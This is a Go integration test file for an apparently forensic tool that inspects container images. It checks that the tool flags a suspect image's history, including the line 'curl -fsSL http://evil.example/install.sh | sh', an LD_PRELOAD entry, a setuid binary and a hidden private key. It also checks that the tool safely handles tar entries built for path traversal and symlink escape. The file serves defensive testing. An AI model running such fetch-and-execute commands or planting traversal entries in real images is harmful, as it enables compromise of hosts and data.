package integration

import (
	"archive/tar"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"sort"
	"strings"
	"sync"
	"syscall"
	"testing"

	"github.com/containerd/containerd/v2/client"
	"github.com/opencontainers/go-digest"

	"github.com/ctrforensics/ctrforensics/internal/schemacheck"
	"github.com/ctrforensics/ctrforensics/internal/testdaemon"
	"github.com/ctrforensics/ctrforensics/internal/testimage"
)

// suspectOnce imports the suspect image once for the tests that need it.
var suspectOnce = sync.OnceValues(func() (client.Image, error) {
	ctx := h.daemon.Context(context.Background())
	img, err := testimage.SuspectImage(ctx)
	if err != nil {
		return nil, err
	}
	return testdaemon.ImportImage(ctx, h.client, img, "overlayfs")
})

func suspect(t *testing.T) client.Image {
	t.Helper()
	img, err := suspectOnce()
	if err != nil {
		t.Fatal(err)
	}
	return img
}

// TestImageHistoryFindings reads the suspect image's history and expects the
// findings article 2 of the design brief names, in every format.
func TestImageHistoryFindings(t *testing.T) {
	suspect(t)
	host := captureHost(t)
	table := h.mustCLI(t, "image", "history", testimage.SuspectImageName)
	for _, want := range []string{"curl -fsSL http://evil.example/install.sh | sh", "(empty)", "findings: "} {
		if !strings.Contains(table, want) {
			t.Errorf("history table lacks %q:\n%s", want, table)
		}
	}
	var out struct {
		History  []map[string]any `json:"history"`
		Findings []struct {
			Rule, Severity, Reason string
			History                int
		} `json:"findings"`
	}
	if err := json.Unmarshal([]byte(h.mustCLI(t, "image", "history", "--format", "json", testimage.SuspectImageName)), &out); err != nil {
		t.Fatal(err)
	}
	reasons := ""
	for _, f := range out.Findings {
		reasons += fmt.Sprintf("%s %s history[%d] %s\n", f.Rule, f.Severity, f.History, f.Reason)
	}
	for _, want := range []string{"LD_PRELOAD", "curl", "/tmp/.x/run", "u+s"} {
		if !strings.Contains(reasons, want) {
			t.Errorf("no finding mentions %q:\n%s", want, reasons)
		}
	}
	if len(out.History) != 6 {
		t.Errorf("%d history entries, want 6", len(out.History))
	}
	var sarif struct {
		Version string `json:"version"`
		Runs    []struct {
			Results []struct {
				RuleID string `json:"ruleId"`
				Level  string `json:"level"`
			} `json:"results"`
		} `json:"runs"`
	}
	sarifOut := h.mustCLI(t, "image", "history", "--format", "sarif", testimage.SuspectImageName)
	if err := json.Unmarshal([]byte(sarifOut), &sarif); err != nil {
		t.Fatal(err)
	}
	schemacheck.ValidateSARIF(t, []byte(sarifOut))
	if sarif.Version != "2.1.0" || len(sarif.Runs) != 1 || len(sarif.Runs[0].Results) != len(out.Findings) {
		t.Errorf("SARIF: version %q, %d runs", sarif.Version, len(sarif.Runs))
	}
	if r := h.cli(t, "image", "history", "--fail-on", "high", testimage.SuspectImageName); r.code != 1 {
		t.Errorf("--fail-on high on the suspect image: exit %d, want 1", r.code)
	}
	if r := h.cli(t, "image", "history", "--fail-on", "high", testimage.WebImageName); r.code != 0 {
		t.Errorf("--fail-on high on the web image: exit %d, want 0\n%s", r.code, r.stdout)
	}
	compareHost(t, "after image history", host, captureHost(t))
}

// TestImageFilesMatchesMount compares `image files` with a walk of the
// image's snapshot mounted read-only.
func TestImageFilesMatchesMount(t *testing.T) {
	suspect(t)
	for _, ref := range []string{testimage.WebImageName, testimage.SuspectImageName} {
		t.Run(ref, func(t *testing.T) {
			var listed []string
			for _, line := range strings.Split(strings.TrimSpace(h.mustCLI(t, "image", "files", "--format", "json", ref)), "\n") {
				var e struct {
					Path, Type, Mode string
					UID, GID         int
					Size             int64
				}
				if err := json.Unmarshal([]byte(line), &e); err != nil {
					t.Fatal(err)
				}
				size := e.Size
				if e.Type == "dir" {
					size = 0
				}
				listed = append(listed, fmt.Sprintf("%s %s %s %d:%d %d", e.Path, e.Type, e.Mode, e.UID, e.GID, size))
			}
			dir := filepath.Join(t.TempDir(), "m")
			h.mustCLI(t, "mount", "--state-dir", h.stateDir, ref, dir)
			walked := walkListing(t, dir)
			h.mustCLI(t, "umount", "--state-dir", h.stateDir, dir)
			if !reflect.DeepEqual(listed, walked) {
				t.Errorf("image files (got) and the mounted snapshot (want) differ:\n%s", firstDifferences(listed, walked))
			}
		})
	}
}

// walkListing lists a mounted tree like `image files --format json` does.
func walkListing(t *testing.T, root string) []string {
	t.Helper()
	var out []string
	err := filepath.Walk(root, func(p string, fi os.FileInfo, err error) error {
		if err != nil || p == root {
			return err
		}
		st := fi.Sys().(*syscall.Stat_t)
		typ := map[os.FileMode]string{0: "file", os.ModeDir: "dir", os.ModeSymlink: "symlink", os.ModeNamedPipe: "fifo",
			os.ModeSocket: "socket", os.ModeDevice | os.ModeCharDevice: "char", os.ModeDevice: "block"}[fi.Mode().Type()]
		size := fi.Size()
		if typ == "dir" {
			size = 0
		}
		out = append(out, fmt.Sprintf("%s %s %04o %d:%d %d", strings.TrimPrefix(p, root), typ, st.Mode&0o7777, st.Uid, st.Gid, size))
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	sort.Strings(out)
	return out
}

// TestImageLayersHiddenSecret finds the private key layer 1 drops and layer
// 2 deletes: gone from the final filesystem, still shipped, readable.
func TestImageLayersHiddenSecret(t *testing.T) {
	suspect(t)
	layers := h.mustCLI(t, "image", "layers", testimage.SuspectImageName)
	for _, want := range []string{"A /root/.ssh/id_rsa", "D /root/.ssh/id_rsa", "A /usr/bin/helper", "D /opt/app/a",
		"1 file(s) of this layer are hidden by later layers"} {
		if !strings.Contains(layers, want) {
			t.Errorf("image layers lacks %q:\n%s", want, layers)
		}
	}
	hidden := h.mustCLI(t, "image", "layers", "--show-hidden", testimage.SuspectImageName)
	if want := "hidden /root/.ssh/id_rsa  " + fmt.Sprint(len(testimage.SuspectSecret)) + " bytes  " + digest.FromString(testimage.SuspectSecret).String(); !strings.Contains(hidden, want) {
		t.Errorf("--show-hidden lacks %q:\n%s", want, hidden)
	}
	if got := h.mustCLI(t, "image", "cat", "--layer", "1", testimage.SuspectImageName, "/root/.ssh/id_rsa"); got != testimage.SuspectSecret {
		t.Errorf("cat --layer 1 = %q", got)
	}
	if r := h.cli(t, "image", "cat", testimage.SuspectImageName, "/root/.ssh/id_rsa"); r.code != 2 || !strings.Contains(r.stderr, "not") {
		t.Errorf("cat of a deleted file: exit %d, %q", r.code, r.stderr)
	}
	files := h.mustCLI(t, "image", "files", "--setuid", testimage.SuspectImageName)
	if !strings.Contains(files, "-rwsr-xr-x") || !strings.Contains(files, "/usr/bin/helper") || strings.Contains(files, "/bin/busybox") {
		t.Errorf("--setuid:\n%s", files)
	}
	opt := h.mustCLI(t, "image", "files", "--path", "/opt/app/*", testimage.SuspectImageName)
	if !strings.Contains(opt, "/opt/app/new") || strings.Contains(opt, "/opt/app/a") {
		t.Errorf("the opaque directory /opt/app must hold only new:\n%s", opt)
	}
}

// TestImageExportAndSave exports the final filesystem and saves the image,
// then re-imports the saved archive and reads it with skopeo.
func TestImageExportAndSave(t *testing.T) {
	img := suspect(t)
	dir := t.TempDir()
	exported := filepath.Join(dir, "fs.tar")
	h.mustCLI(t, "image", "export", "-o", exported, testimage.SuspectImageName)
	var names []string
	f, err := os.Open(exported)
	if err != nil {
		t.Fatal(err)
	}
	tr := tar.NewReader(f)
	for {
		hdr, err := tr.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(hdr.Name, ".wh.") {
			t.Errorf("export holds a whiteout: %s", hdr.Name)
		}
		names = append(names, "/"+strings.TrimSuffix(hdr.Name, "/"))
	}
	f.Close()
	listed := strings.Fields(h.mustCLI(t, "image", "files", "--format", "json", testimage.SuspectImageName))
	if len(names) != len(listed) {
		t.Errorf("export has %d entries, image files lists %d", len(names), len(listed))
	}

	saved := filepath.Join(dir, "image.tar")
	h.mustCLI(t, "image", "save", "-o", saved, testimage.SuspectImageName)
	out, err := exec.Command("skopeo", "inspect", "oci-archive:"+saved).CombinedOutput()
	if err != nil {
		t.Fatalf("skopeo inspect oci-archive: %v\n%s", err, out)
	}
	if !strings.Contains(string(out), img.Target().Digest.String()) {
		t.Errorf("skopeo does not see manifest %s:\n%s", img.Target().Digest, out)
	}
	if tarNames(t, saved)["manifest.json"] == false {
		t.Error("the saved archive has no docker manifest.json")
	}
	ctx := h.ctx(t)
	sf, err := os.Open(saved)
	if err != nil {
		t.Fatal(err)
	}
	defer sf.Close()
	imgs, err := h.client.Import(ctx, sf, client.WithImageRefTranslator(func(string) string { return "docker.io/ctrforensics/reimported:1" }))
	if err != nil {
		t.Fatal(err)
	}
	if len(imgs) != 1 || imgs[0].Target.Digest != img.Target().Digest {
		t.Errorf("re-imported %+v, want digest %s", imgs, img.Target().Digest)
	}
	h.client.ImageService().Delete(ctx, "docker.io/ctrforensics/reimported:1")
}

func tarNames(t *testing.T, p string) map[string]bool {
	f, err := os.Open(p)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	out := map[string]bool{}
	tr := tar.NewReader(f)
	for {
		hdr, err := tr.Next()
		if err != nil {
			return out
		}
		out[hdr.Name] = true
	}
}

// TestImageMultiPlatform lists and reads each platform of a two-platform index.
func TestImageMultiPlatform(t *testing.T) {
	ctx := h.ctx(t)
	m, err := testimage.MultiPlatformImage(ctx)
	if err != nil {
		t.Fatal(err)
	}
	built, err := m.Build()
	if err != nil {
		t.Fatal(err)
	}
	h.importArchive(t, built, client.WithAllPlatforms(true))
	ls := h.mustCLI(t, "image", "ls")
	if !strings.Contains(ls, "linux/amd64,linux/arm64") {
		t.Errorf("image ls does not show both platforms:\n%s", ls)
	}
	for _, arch := range []string{"amd64", "arm64"} {
		files := h.mustCLI(t, "image", "files", "--platform", "linux/"+arch, "--path", "/etc/platform-*", testimage.MultiImageName)
		if !strings.Contains(files, "/etc/platform-"+arch) || strings.Count(files, "/etc/platform-") != 1 {
			t.Errorf("--platform linux/%s:\n%s", arch, files)
		}
	}
	if r := h.cli(t, "image", "files", "--platform", "linux/s390x", testimage.MultiImageName); r.code != 2 || !strings.Contains(r.stderr, "linux/amd64, linux/arm64") {
		t.Errorf("a missing platform: exit %d %q", r.code, r.stderr)
	}
}

// TestImageDiscardedBlobs deletes the layer blobs of an unpacked image from
// the content store: the commands must read the snapshots instead, say so,
// and list the same files.
func TestImageDiscardedBlobs(t *testing.T) {
	ctx := h.ctx(t)
	web, err := testimage.WebImage(ctx)
	if err != nil {
		t.Fatal(err)
	}
	web.Name = "docker.io/ctrforensics/discarded:1"
	// Parents listed, as image builders write them: containerd's unpacker gives
	// a parent a layer does not list the time of the unpacking.
	parents := []testimage.File{testimage.Dir("/etc", 0o755), testimage.Dir("/var", 0o755)}
	web.Layers[1].Files = append(append(parents, web.Layers[1].Files...), testimage.Reg("/etc/app/marker", 0o644, "discarded\n"))
	if _, err := testdaemon.ImportImage(ctx, h.client, web, "overlayfs"); err != nil {
		t.Fatal(err)
	}
	before := h.mustCLI(t, "image", "files", "--digest", web.Name)
	built, err := web.Build()
	if err != nil {
		t.Fatal(err)
	}
	for _, l := range built.Layers {
		if err := h.client.ContentStore().Delete(ctx, l.Digest); err != nil {
			t.Fatal(err)
		}
	}
	host := captureHost(t)
	r := h.cli(t, "image", "files", "--digest", web.Name)
	if r.code != 0 || !strings.Contains(r.stderr, "reading the unpacked layers from snapshotter overlayfs") {
		t.Fatalf("exit %d, stderr %q", r.code, r.stderr)
	}
	if r.stdout != before {
		t.Errorf("listing from snapshots differs from the one from blobs:\n%s", firstDifferences(strings.Split(r.stdout, "\n"), strings.Split(before, "\n")))
	}
	if got := h.mustCLI(t, "image", "cat", web.Name, "/etc/app/marker"); got != "discarded\n" {
		t.Errorf("cat from snapshots = %q", got)
	}
	compareHost(t, "after reading snapshots", host, captureHost(t))
}

// TestImageCommandsLeaveNoTrace runs every image command and checks that
// containerd's images, containers, snapshots and leases and the host's mounts
// are as before.
func TestImageCommandsLeaveNoTrace(t *testing.T) {
	suspect(t)
	ref := testimage.SuspectImageName
	dir := t.TempDir()
	host := captureHost(t)
	for i, args := range [][]string{
		{"image", "ls"}, {"image", "history", ref}, {"image", "files", "--digest", ref}, {"image", "layers", "--show-hidden", ref},
		{"image", "cat", "--layer", "1", ref, "/root/.ssh/id_rsa"}, {"image", "export", "-o", filepath.Join(dir, "e.tar"), ref},
		{"image", "save", "-o", filepath.Join(dir, "s.tar"), ref},
	} {
		t.Run(strings.Join(args[:2], " ")+fmt.Sprint(i), func(t *testing.T) {
			h.mustCLI(t, args...)
			compareHost(t, strings.Join(args, " "), host, captureHost(t))
		})
	}
}

// TestImageHostileLayers imports, without unpacking, an image whose layer
// holds entries escaping the root, absolute names, a symlink chain and loop,
// a hard link to nothing and duplicates: every command must answer, warn,
// and write nothing outside its output.
func TestImageHostileLayers(t *testing.T) {
	canary := t.TempDir()
	img := &testimage.Image{Name: "docker.io/ctrforensics/hostile:1", Layers: []testimage.Layer{{Files: []testimage.File{
		testimage.Dir("/etc", 0o755),
		testimage.Reg("/../../../../"+strings.TrimPrefix(canary, "/")+"/escaped", 0o644, "escaped\n"),
		testimage.Reg("/etc/dup", 0o644, "first\n"),
		testimage.Reg("/etc/dup", 0o644, "second\n"),
		testimage.Symlink("/etc/loop-a", "/etc/loop-b"),
		testimage.Symlink("/etc/loop-b", "/etc/loop-a"),
		testimage.Symlink("/etc/out", canary),
		{Path: "/etc/hard", Type: tar.TypeLink, Linkname: "/nowhere/at/all"},
	}}}}
	built, err := img.Build()
	if err != nil {
		t.Fatal(err)
	}
	h.importArchive(t, built)
	files := h.cli(t, "image", "files", img.Name)
	if files.code != 0 || !strings.Contains(files.stderr, "warning") || strings.Contains(files.stdout, "escaped") {
		t.Errorf("image files: exit %d\nstdout %s\nstderr %s", files.code, files.stdout, files.stderr)
	}
	if got := h.mustCLI(t, "image", "cat", img.Name, "/etc/dup"); got != "second\n" {
		t.Errorf("duplicate entry: cat = %q, want the last one", got)
	}
	if r := h.cli(t, "image", "cat", img.Name, "/etc/loop-a"); r.code != 2 || !strings.Contains(r.stderr, "more than 40 symbolic links") {
		t.Errorf("cat of a symlink loop: exit %d %q", r.code, r.stderr)
	}
	out := filepath.Join(t.TempDir(), "x.tar")
	h.mustCLI(t, "image", "export", "-o", out, img.Name)
	h.mustCLI(t, "image", "layers", img.Name)
	if left, _ := os.ReadDir(canary); len(left) != 0 {
		t.Errorf("something was written outside: %v", left)
	}
}

// TestImageFilesFiltersAndContainer checks --type and --newer, and that the
// listing equals a real (never started) container's read-only root.
func TestImageFilesFiltersAndContainer(t *testing.T) {
	ctx := h.ctx(t)
	dirs := h.mustCLI(t, "image", "files", "--type", "dir", "--format", "json", testimage.WebImageName)
	if strings.Contains(dirs, `"type":"file"`) || !strings.Contains(dirs, `"path":"/var/www/html"`) {
		t.Errorf("--type dir:\n%s", dirs)
	}
	newer := h.mustCLI(t, "image", "files", "--newer", "2024-02-04", "--format", "json", testimage.WebImageName)
	if !strings.Contains(newer, "/opt/data/notes.txt") || strings.Contains(newer, "/var/www/html/index.html") {
		t.Errorf("--newer 2024-02-04:\n%s", newer)
	}
	if r := h.cli(t, "image", "files", "--newer", "yesterday", testimage.WebImageName); r.code != 2 {
		t.Errorf("bad --newer: exit %d", r.code)
	}
	ctr, err := h.client.NewContainer(ctx, "never-started", client.WithImage(h.images["overlayfs"]), client.WithSnapshotter("overlayfs"),
		client.WithNewSnapshot("never-started", h.images["overlayfs"]), client.WithNewSpec())
	if err != nil {
		t.Fatal(err)
	}
	defer ctr.Delete(ctx, client.WithSnapshotCleanup)
	var listed []string
	for _, line := range strings.Split(strings.TrimSpace(h.mustCLI(t, "image", "files", "--format", "json", testimage.WebImageName)), "\n") {
		var e struct {
			Path, Type, Mode string
			UID, GID         int
			Size             int64
		}
		json.Unmarshal([]byte(line), &e)
		if e.Type == "dir" {
			e.Size = 0
		}
		listed = append(listed, fmt.Sprintf("%s %s %s %d:%d %d", e.Path, e.Type, e.Mode, e.UID, e.GID, e.Size))
	}
	dir := filepath.Join(t.TempDir(), "m")
	h.mustCLI(t, "mount", "--state-dir", h.stateDir, "never-started", dir)
	walked := walkListing(t, dir)
	h.mustCLI(t, "umount", "--state-dir", h.stateDir, dir)
	if !reflect.DeepEqual(listed, walked) {
		t.Errorf("image files (got) and the container's read-only root (want) differ:\n%s", firstDifferences(listed, walked))
	}
}
